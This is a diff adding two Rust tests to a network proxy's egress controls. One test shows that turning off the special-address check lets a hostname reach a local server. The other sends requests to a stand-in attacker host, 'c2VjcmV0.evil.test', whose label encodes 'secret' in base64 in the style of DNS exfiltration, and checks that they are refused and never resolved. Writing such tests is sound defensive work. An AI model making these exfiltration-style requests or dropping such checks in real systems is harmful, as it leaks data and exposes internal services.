@@ -146,3 +146,33 @@ fn addresses_by_socks_are_checked_too() {
     assert_eq!(client.bytes(12)[3], 0);
     assert_eq!(client.send("\0ping").bytes(5), b"\0ping");
 }
+
+#[test]
+fn without_the_check_of_addresses_a_name_reaches_this_machine() {
+    let secret = Server::answering(|_| ok("secret"));
+    let port = secret.port;
+    let get = |special_addresses: bool| {
+        let proxy = Proxy::with(&format!("a.test:{port}"), |options, _| {
+            options.walls.special_addresses = special_addresses;
+        });
+        proxy.client().get(&format!("http://a.test:{port}/"))
+    };
+    assert_eq!(get(true).0, 403);
+    assert_eq!(get(false), (200, "secret".to_owned()));
+}
+
+#[test]
+fn nobody_is_asked_about_names_that_are_not_allowed() {
+    let proxy = Proxy::new("a.test");
+    assert_eq!(proxy.client().get("http://c2VjcmV0.evil.test/").0, 403);
+    assert_eq!(proxy.client().tunnel("c2VjcmV0.evil.test:443"), 403);
+    assert_eq!(proxy.client().socks("c2VjcmV0.evil.test", 443), 2);
+    assert_eq!(proxy.names.asked.load(Ordering::Relaxed), 0);
+    // All that a person has to read of it is one line.
+    let refused = proxy.finish().refused;
+    assert_eq!(refused.len(), 1);
+    assert_eq!(
+        (refused[0].times, refused[0].flag.as_deref()),
+        (3, Some("--net allow=c2vjcmv0.evil.test"))
+    );
+}
